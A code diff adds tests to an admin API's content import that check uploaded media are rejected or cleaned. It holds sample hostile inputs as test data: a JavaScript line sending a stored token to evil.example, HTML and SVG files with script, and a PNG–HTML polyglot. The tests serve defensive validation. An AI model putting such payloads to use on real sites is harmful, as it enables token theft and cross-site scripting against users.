@@ -4,6 +4,7 @@
  * JSON path; the admin API's export and import speak the same document, for operators only.
  */
 import { count, eq } from 'drizzle-orm';
+import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { CONTENT_DOCUMENT_LISTS, ContentDocumentSchema, type ContentDocument } from '../../src/contracts/admin/content-document';
 import { auditLog, challenges, media } from '../../server/db/schema';
@@ -118,5 +119,48 @@ describe('export and import in the admin API', () => {
     const res = await t.request('POST', '/api/admin/import', { token: ops, body: document });
     expect(res.status).toBe(422);
     expect(res.body.error.details).toContainEqual(expect.objectContaining({ path: 'challenges.0.title' }));
+  });
+});
+
+describe('imported media follow the upload rules', () => {
+  /** A document holding only `media` (bytes inline). */
+  const documentWith = (entries: Array<{ key: string; contentType: string; bytes: Uint8Array }>) => ({
+    format: 'podium-content',
+    version: 1,
+    exportedAt: t.clock().toISOString(),
+    media: entries.map(({ key, contentType, bytes }) => ({ key, name: null, contentType, data: Buffer.from(bytes).toString('base64') })),
+  });
+  const png = () => sharp({ create: { width: 8, height: 8, channels: 3, background: '#0a6cff' } }).png().toBuffer();
+
+  it('refuses HTML, JavaScript, SVG with script, bytes that only start like a PNG and an image past 10 MB: 422 naming each, nothing written', async () => {
+    const head = (await png()).subarray(0, 33);
+    const document = documentWith([
+      { key: 'page', contentType: 'text/html', bytes: Buffer.from('<!doctype html><html><script>fetch("/api/user/me")</script></html>') },
+      { key: 'script', contentType: 'application/javascript', bytes: Buffer.from('navigator.sendBeacon("https://evil.example", localStorage.token)') },
+      { key: 'logo', contentType: 'image/svg+xml', bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>') },
+      { key: 'polyglot', contentType: 'image/png', bytes: Buffer.concat([head, Buffer.from('<html><script>alert(1)</script></html>')]) },
+      { key: 'huge', contentType: 'image/png', bytes: Buffer.concat([head, Buffer.alloc(10 * 1024 * 1024)]) },
+      { key: 'fine', contentType: 'image/png', bytes: await png() },
+    ]);
+    const before = await rowsOf(t.organization.id);
+    const res = await t.request('POST', '/api/admin/import', { token: ops, body: document });
+    expect(res.status).toBe(422);
+    expect(res.body.error.details.map((d: { path: string }) => d.path)).toEqual(['media.0.data', 'media.1.data', 'media.2.data', 'media.3.data', 'media.4.data']);
+    expect(await rowsOf(t.organization.id)).toEqual(before);
+  });
+
+  it('stores an imported photo re-encoded, without its EXIF (GPS position, author)', async () => {
+    const photo = await sharp({ create: { width: 30, height: 10, channels: 3, background: '#c0ffee' } })
+      .jpeg()
+      .withExif({ IFD0: { Artist: 'Erika Mustermann' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 8/1 3/1' } })
+      .toBuffer();
+    expect((await sharp(photo).metadata()).exif?.toString('latin1')).toContain('Erika Mustermann');
+    const res = await t.request('POST', '/api/admin/import', { token: ops, body: documentWith([{ key: 'team-photo', contentType: 'image/jpeg', bytes: photo }]) });
+    expect(res.status).toBe(200);
+    const [item] = (await t.request('GET', '/api/admin/media?q=team-photo', { token: ops })).body.data;
+    expect(item).toMatchObject({ key: 'team-photo', contentType: 'image/jpeg', width: 30, height: 10 });
+    const stored = Buffer.from(await (await t.app.request(item.url)).arrayBuffer());
+    expect((await sharp(stored).metadata()).exif).toBeUndefined();
+    expect(stored.includes('Erika')).toBe(false);
   });
 });
